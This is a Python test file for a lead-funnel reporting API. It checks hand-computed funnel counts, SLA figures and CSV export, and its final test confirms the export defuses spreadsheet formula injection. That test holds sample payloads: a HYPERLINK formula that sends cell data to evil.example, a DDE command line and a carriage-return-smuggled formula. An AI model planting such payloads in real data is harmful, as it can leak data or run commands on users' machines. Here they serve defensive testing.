"""Funnel KPIs over a seeded set of leads whose right answers are worked out by hand below.

The cohort (captured in November 2026):

    lead  source    campaign form     team  rep  tier  reached      first touch (s after capture)  SLA
    L1    google    spring   demo     emea  ada  hot   converted    contacted 120                  met
    L2    google    spring   demo     emea  ada  hot   sql          contacted 600 (after breach)   breached
    L3    google    fall     pricing  amer  bob  warm  accepted     contacted 1800                 met (1 h)
    L4    (direct)  -        demo     amer  bob  cold  captured     -                              open
    L5    linkedin  fall     demo     emea  cy   hot   mql          disqualified 30                met
    L6 is captured in October and must not count.
    L7 is a repeat fill by L1's person, merged into L1 by enrichment: one person, one lead.

Stages are cumulative: L1 (converted) also counts as MQL, accepted, SQL and opportunity.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from leadflow_contracts import (
    Attribution,
    DataQuality,
    LeadCaptured,
    LeadContact,
    LeadEnriched,
    LeadProfile,
    LeadRouted,
    LeadScored,
    LeadTouched,
    RoutedOwner,
)
from leadflow_kit.app import app_deps
from leadflow_kit.clock import FrozenClock

C = datetime(2026, 11, 10, 10, 0, tzinfo=UTC)
S = timedelta(seconds=1)

LEADS: dict[str, dict[str, Any]] = {
    "L1": dict(source="google", campaign="spring", form="demo", team="emea", rep="ada", tier="hot", stage="opportunity",
               mql=True),
    "L2": dict(source="google", campaign="spring", form="demo", team="emea", rep="ada", tier="hot", stage="sql",
               mql=True),
    "L3": dict(source="google", campaign="fall", form="pricing", team="amer", rep="bob", tier="warm", stage="mql",
               mql=True),
    "L4": dict(source=None, campaign=None, form="demo", team="amer", rep="bob", tier="cold", stage="lead", mql=False),
    "L5": dict(source="linkedin", campaign="fall", form="demo", team="emea", rep="cy", tier="hot", stage="mql",
               mql=True),
    "L6": dict(source="google", campaign="spring", form="demo", team="emea", rep="ada", tier="hot", stage="mql",
               mql=True, captured=datetime(2026, 10, 15, 10, 0, tzinfo=UTC)),
}


def _events(env: Any, name: str, lead_id: str) -> list[Any]:
    spec = LEADS[name]
    captured_at: datetime = spec.get("captured", C)
    fill = LeadCaptured(lead_id=lead_id, form_key=spec["form"], submitted_at=captured_at,
                        contact=LeadContact(email=f"{name}@example.com"),
                        attribution=Attribution(utm_source=spec["source"], utm_campaign=spec["campaign"]))
    scored = LeadScored(lead_id=lead_id, score=50, fit_grade="B", engagement_level=2, tier=spec["tier"],
                        is_mql=spec["mql"], model_version="v1", lifecycle_stage=spec["stage"])
    routed = LeadRouted(lead_id=lead_id, assignment_id=f"as-{name}", reason="test", tier=spec["tier"],
                        owner=RoutedOwner(rep_id=spec["rep"], team_id=spec["team"]))
    return [
        env.lead_event(fill, lead_id, captured_at, captured_at, "capture"),
        env.lead_event(scored, lead_id, captured_at + S / 2, captured_at, "scoring"),
        env.lead_event(routed, lead_id, captured_at + S, captured_at, "routing"),
    ]


def _touch(env: Any, lead_id: str, touch_type: str, seconds: int, captured_at: datetime = C) -> Any:
    at = captured_at + seconds * S
    data = LeadTouched(lead_id=lead_id, touch_id=f"{touch_type}-{seconds}", touch_type=touch_type, occurred_at=at)
    return env.lead_event(data, lead_id, at, captured_at, "routing")


async def _wait_clocks(env: Any, ids: list[str], status: str) -> None:
    async def all_there() -> bool:
        rows = await env.fetch("SELECT count(*) AS n FROM sla_clock WHERE lead_id = ANY($1) AND status = $2",
                               ids, status)
        return bool(rows[0]["n"] == len(ids))

    await env.eventually(all_there)


async def test_funnel_numbers_match_the_hand_computed_answers(sla_env: Any, apps: Any) -> None:
    clock = FrozenClock(C)
    app, client = await apps.start(clock, scheduler_interval_seconds=3600)
    ids = {name: f"{name}-{sla_env.new_lead_id()}" for name in LEADS}
    for name, lead_id in ids.items():
        for event in _events(sla_env, name, lead_id):
            await sla_env.send(event)
    await _wait_clocks(sla_env, list(ids.values()), "open")

    await sla_env.send(_touch(sla_env, ids["L1"], "accepted", 60))
    await sla_env.send(_touch(sla_env, ids["L1"], "contacted", 120))
    await sla_env.send(_touch(sla_env, ids["L5"], "disqualified", 30))
    await sla_env.send(_touch(sla_env, ids["L6"], "contacted", 10, LEADS["L6"]["captured"]))
    await _wait_clocks(sla_env, [ids["L1"], ids["L5"], ids["L6"]], "stopped")

    clock.set(C + 400 * S)
    fired = await app_deps(app).scheduler.fire_due()
    assert sorted((f.lead_id, f.kind) for f in fired) == [(ids["L2"], "breach"), (ids["L2"], "warning")]

    await sla_env.send(_touch(sla_env, ids["L2"], "contacted", 600))
    await sla_env.send(_touch(sla_env, ids["L3"], "contacted", 1800))
    await sla_env.send(_touch(sla_env, ids["L1"], "converted", 5000))
    await _wait_clocks(sla_env, [ids["L2"], ids["L3"]], "stopped")

    async def converted() -> bool:
        rows = await sla_env.fetch("SELECT converted_at FROM lead WHERE lead_id = $1", ids["L1"])
        return bool(rows and rows[0]["converted_at"] is not None)

    await sla_env.eventually(converted)

    repeat = f"L7-{sla_env.new_lead_id()}"
    fill = LeadCaptured(lead_id=repeat, form_key="demo", submitted_at=C + 60 * S, contact=LeadContact(),
                        attribution=Attribution(utm_source="google"))
    await sla_env.send(sla_env.lead_event(fill, repeat, C + 60 * S, C + 60 * S, "capture"))
    merged = LeadEnriched(lead_id=ids["L1"], captured_lead_id=repeat, duplicate_of=ids["L1"], form_key="demo",
                          profile=LeadProfile(), original=LeadContact(), quality=DataQuality(score=70))
    await sla_env.send(sla_env.lead_event(merged, ids["L1"], C + 61 * S, C + 60 * S, "enrichment"))

    async def merged_away() -> bool:
        rows = await sla_env.fetch("SELECT merged_into FROM lead WHERE lead_id = $1", repeat)
        return bool(rows and rows[0]["merged_into"] == ids["L1"])

    await sla_env.eventually(merged_away)
    repeat_timeline = (await client.get(f"/v1/leads/{repeat}/timeline")).json()
    assert [s["stage"] for s in repeat_timeline["stages"]] == ["captured", "enriched"]
    assert repeat_timeline["stages"][1]["details"]["duplicate_of"] == ids["L1"]
    window = {"from": "2026-11-01T00:00:00Z", "to": "2026-12-01T00:00:00Z"}

    total = (await client.get("/v1/reports/funnel", params=window)).json()["total"]
    assert total["counts"] == {"captured": 5, "mql": 4, "accepted": 3, "sql": 2, "opportunity": 1, "converted": 1}
    assert total["conversion_rates"] == {
        "captured_to_mql": 0.8, "mql_to_accepted": 0.75, "accepted_to_sql": 0.6667, "mql_to_sql": 0.5,
        "sql_to_opportunity": 0.5, "opportunity_to_converted": 1.0, "captured_to_converted": 0.2,
    }
    # Speeds 30, 120, 600, 1800: median (120 + 600) / 2; p90 at rank 2.7 = 600 + 0.7 * 1200.
    assert total["speed_to_lead_seconds"] == {"touched": 4, "median": 360.0, "p90": 1440.0}
    assert total["sla"] == {"met": 3, "breached": 1, "compliance_pct": 75.0}

    by_team = (await client.get("/v1/reports/funnel", params={**window, "group_by": "team"})).json()
    teams = {g["group"]: g for g in by_team["groups"]}
    assert set(teams) == {"emea", "amer"}
    assert teams["emea"]["counts"] == {"captured": 3, "mql": 3, "accepted": 2, "sql": 2, "opportunity": 1,
                                       "converted": 1}
    # 30, 120, 600: p90 at rank 1.8 = 120 + 0.8 * 480.
    assert teams["emea"]["speed_to_lead_seconds"] == {"touched": 3, "median": 120.0, "p90": 504.0}
    assert teams["emea"]["sla"] == {"met": 2, "breached": 1, "compliance_pct": 66.67}
    assert teams["amer"]["counts"] == {"captured": 2, "mql": 1, "accepted": 1, "sql": 0, "opportunity": 0,
                                       "converted": 0}
    assert teams["amer"]["conversion_rates"]["mql_to_sql"] == 0.0
    assert teams["amer"]["sla"] == {"met": 1, "breached": 0, "compliance_pct": 100.0}

    by_source = (await client.get("/v1/reports/funnel", params={**window, "group_by": "source"})).json()
    sources = {g["group"]: g for g in by_source["groups"]}
    assert {k: v["counts"]["captured"] for k, v in sources.items()} == {"google": 3, "direct": 1, "linkedin": 1}
    # 120, 600, 1800: p90 at rank 1.8 = 600 + 0.8 * 1200.
    assert sources["google"]["speed_to_lead_seconds"] == {"touched": 3, "median": 600.0, "p90": 1560.0}
    assert sources["direct"]["speed_to_lead_seconds"] == {"touched": 0, "median": None, "p90": None}

    by_campaign = (await client.get("/v1/reports/funnel", params={**window, "group_by": "utm_campaign"})).json()
    assert {g["group"]: g["counts"]["mql"] for g in by_campaign["groups"]} == {"spring": 2, "fall": 2, "(none)": 0}
    by_form = (await client.get("/v1/reports/funnel", params={**window, "group_by": "form"})).json()
    assert {g["group"]: g["counts"]["captured"] for g in by_form["groups"]} == {"demo": 4, "pricing": 1}
    by_rep = (await client.get("/v1/reports/funnel", params={**window, "group_by": "rep"})).json()
    assert {g["group"]: g["sla"]["compliance_pct"] for g in by_rep["groups"]} == {"ada": 50.0, "bob": 100.0,
                                                                                  "cy": 100.0}

    # October alone holds only L6.
    october = (await client.get("/v1/reports/funnel", params={"from": "2026-10-01", "to": "2026-11-01"})).json()
    assert october["total"]["counts"]["captured"] == 1

    as_csv = await client.get("/v1/reports/funnel", params={**window, "group_by": "team"},
                              headers={"Accept": "text/csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["group"] for r in rows] == ["amer", "emea", "total"]
    assert rows[2]["captured"] == "5" and rows[2]["mql_to_sql"] == "0.5"
    assert rows[2]["speed_to_lead_median_seconds"] == "360" and rows[2]["sla_compliance_pct"] == "75"
    assert rows[0]["speed_to_lead_p90_seconds"] == "1800"
    by_param = await client.get("/v1/reports/funnel", params={**window, "format": "csv"})
    assert by_param.text.splitlines()[-1].startswith("total,5,4,3,2,1,1,")

    bad = await client.get("/v1/reports/funnel", params={"from": "2026-12-01", "to": "2026-11-01"})
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "from"
    assert (await client.get("/v1/reports/funnel", params={"group_by": "planet"})).status_code == 422


async def test_the_csv_export_is_safe_to_open_in_a_spreadsheet(sla_env: Any, apps: Any) -> None:
    """UTM values come from anonymous visitors: a campaign named like a formula stays text."""
    _, client = await apps.start(FrozenClock(C), scheduler_interval_seconds=3600)
    captured_at = datetime(2026, 9, 10, 10, 0, tzinfo=UTC)
    campaigns = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)",
                 "spring\r=1+1"]
    ids = [f"CSV{i}-{sla_env.new_lead_id()}" for i in range(len(campaigns))]
    for lead_id, campaign in zip(ids, campaigns, strict=True):
        fill = LeadCaptured(lead_id=lead_id, form_key="demo", submitted_at=captured_at,
                            contact=LeadContact(email=f"{lead_id}@example.com"),
                            attribution=Attribution(utm_source="-2+3", utm_campaign=campaign))
        await sla_env.send(sla_env.lead_event(fill, lead_id, captured_at, captured_at, "capture"))

    async def all_there() -> bool:
        rows = await sla_env.fetch("SELECT count(*) AS n FROM lead WHERE lead_id = ANY($1)", ids)
        return bool(rows[0]["n"] == len(ids))

    await sla_env.eventually(all_there)
    window = {"from": "2026-09-01T00:00:00Z", "to": "2026-10-01T00:00:00Z", "format": "csv"}
    for group_by, expected in (("utm_campaign", {"'" + c for c in campaigns[:3]} | {"spring\r=1+1"}),
                               ("source", {"'-2+3"})):
        exported = await client.get("/v1/reports/funnel", params={**window, "group_by": group_by})
        assert exported.status_code == 200
        rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
        assert {r["group"] for r in rows if r["group"] != "total"} == expected
        # Rows end in CRLF; a CR inside a cell is quoted, so no row of the file starts with a formula.
        assert not any(line.startswith(("=", "+", "-", "@")) for line in exported.text.split("\r\n"))
